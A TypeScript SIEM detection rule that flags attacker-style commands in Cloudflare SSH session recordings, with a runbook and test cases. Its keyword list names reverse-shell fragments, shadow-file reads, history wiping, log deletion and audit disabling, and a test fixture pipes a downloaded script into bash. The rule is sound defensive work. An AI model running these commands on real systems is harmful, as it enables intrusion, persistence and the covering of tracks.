import { defineRule } from '../lib/rules/model';
import type { SSHEvent } from '../lib/rules/events';
import { lower } from './_helpers';

/**
 * A command typed or run over an SSH session proxied by Cloudflare (Access for Infrastructure command logging)
 * matches a short list of commands that attackers run and administrators rarely do: reading the shadow file,
 * clearing or disabling shell history, a reverse shell (/dev/tcp, nc -e), piping a download into a shell, adding
 * a user or an SSH key, making a binary setuid, stopping the audit daemon or SELinux, wiping logs. The recorded
 * input and output (Payload, asciicast) is searched as lower-case text.
 *
 * Threshold 1, High: each of these on a server is worth a look. One alert per SSH session per hour. Output lines
 * can echo these strings too (a `cat` of a script that contains them); the runbook starts by reading the recording.
 */
export const SUSPICIOUS_COMMANDS: readonly string[] = [
  '/etc/shadow',
  'history -c',
  'unset histfile',
  'histfile=/dev/null',
  'histsize=0',
  '/dev/tcp/',
  'nc -e ',
  'ncat -e ',
  'bash -i >&',
  'chmod +s ',
  'chmod u+s ',
  'chmod 4755 ',
  'useradd ',
  'adduser ',
  '>> ~/.ssh/authorized_keys',
  '>>~/.ssh/authorized_keys',
  '/root/.ssh/authorized_keys',
  'setenforce 0',
  'systemctl stop auditd',
  'service auditd stop',
  'rm -rf /var/log',
  'shred -u /var/log',
  'base64 -d | sh',
  'base64 -d | bash',
];

/** A download piped into a shell: `curl ... | sh`, `wget -qO- ... | bash`. */
const pipeToShell = (p: string): boolean => (p.includes('curl ') || p.includes('wget ')) && ['| sh', '|sh', '| bash', '|bash'].some((s) => p.includes(s));

export function suspiciousCommands(payload: string | undefined): string[] {
  const p = lower(payload);
  if (p === '') return [];
  const hits = SUSPICIOUS_COMMANDS.filter((c) => p.includes(c)).map((c) => c.trim());
  if (pipeToShell(p)) hits.push('download piped into a shell');
  return hits;
}

export default defineRule<SSHEvent>({
  id: 'Cloudflare.SSH.SuspiciousCommand',
  displayName: 'Cloudflare SSH Session Ran a Suspicious Command',
  logTypes: ['Cloudflare.SSH'],
  severity: 'High',
  dedupPeriodMinutes: 60,
  tags: [
    'Cloudflare',
    'Zero Trust',
    'SSH',
    'attack.execution',
    'attack.t1059.004',
    'attack.defense_evasion',
    'attack.t1070.003',
    'attack.credential_access',
    'attack.t1003.008',
    'attack.persistence',
    'attack.t1098.004',
    'attack.t1136.001',
  ],
  description: 'An SSH session through Cloudflare ran a command attackers use: shadow file access, history wiping, reverse shells, new users or keys, setuid, audit off',
  runbook: [
    '1. Read the session recording (Payload) around the match: who (UserEmail, Username), on which target (TargetID, ServerAddress), what came before and after',
    '2. Confirm with the user that it was their work; if not, end their sessions, revoke their Access, and treat the server as compromised',
    '3. Check the server for what the command left: new users, keys in authorized_keys, setuid files, cleared logs',
  ].join('\n'),
  reference: 'https://developers.cloudflare.com/logs/logpush/logpush-job/datasets/account/ssh_logs/',
  summaryAttributes: ['UserEmail', 'Username', 'ServerAddress', 'TargetID', 'SessionID'],
  rule: (e) => suspiciousCommands(e.Payload).length > 0,
  title: (e) => `Cloudflare SSH: [${e.UserEmail ?? '<unknown user>'}] ran [${suspiciousCommands(e.Payload).join(', ')}] as [${e.Username ?? '?'}] on [${e.ServerAddress ?? e.TargetID ?? '<unknown target>'}]`,
  dedup: (e) => e.SessionID || `${e.UserEmail ?? '<unknown user>'}:${e.ServerAddress ?? e.TargetID ?? ''}`,
  alertContext: (e) => ({
    UserEmail: e.UserEmail,
    UserID: e.UserID,
    Username: e.Username,
    ClientAddress: e.ClientAddress,
    ServerAddress: e.ServerAddress,
    TargetID: e.TargetID,
    SessionID: e.SessionID,
    ProgramID: e.ProgramID,
    ProgramType: e.ProgramType,
    Matches: suspiciousCommands(e.Payload),
  }),
  tests: [
    {
      name: 'a history wipe in a shell session matches',
      expected: true,
      title: 'Cloudflare SSH: [dave@example.com] ran [history -c, unset histfile] as [deploy] on [192.0.2.21:22]',
      dedup: '2f1e0d9c-0000-4000-8000-000000001401',
      log: {
        AccountID: '0123456789abcdef0123456789abcdef',
        ClientAddress: '203.0.113.31:50122',
        Datetime: '2026-11-01 10:00:00.000000000',
        Payload: '{"version":2,"width":120,"height":40}\n[0.51,"i","unset HISTFILE\\r"]\n[1.20,"i","history -c\\r"]\n',
        ProgramID: '2f1e0d9c-0000-4000-8000-000000001402',
        ProgramType: 'shell',
        ServerAddress: '192.0.2.21:22',
        SessionID: '2f1e0d9c-0000-4000-8000-000000001401',
        TargetID: '2f1e0d9c-0000-4000-8000-000000001403',
        UserEmail: 'dave@example.com',
        Username: 'deploy',
        p_log_type: 'Cloudflare.SSH',
        p_event_time: '2026-11-01 10:00:00.000000000',
      },
    },
    {
      name: 'a download piped into bash matches',
      expected: true,
      log: { Payload: '[0.2,"i","curl -fsSL https://get.example.net/i.sh | bash\\r"]', SessionID: 's2', UserEmail: 'erin@example.com', Username: 'ubuntu' },
    },
    { name: 'ordinary administration does not match', expected: false, log: { Payload: '[0.2,"i","sudo systemctl restart nginx\\r"]\n[0.9,"i","tail -n 50 /var/log/nginx/error.log\\r"]', SessionID: 's3' } },
    { name: 'a session without a recording does not match', expected: false, log: { SessionID: 's4', Username: 'root' } },
  ],
});
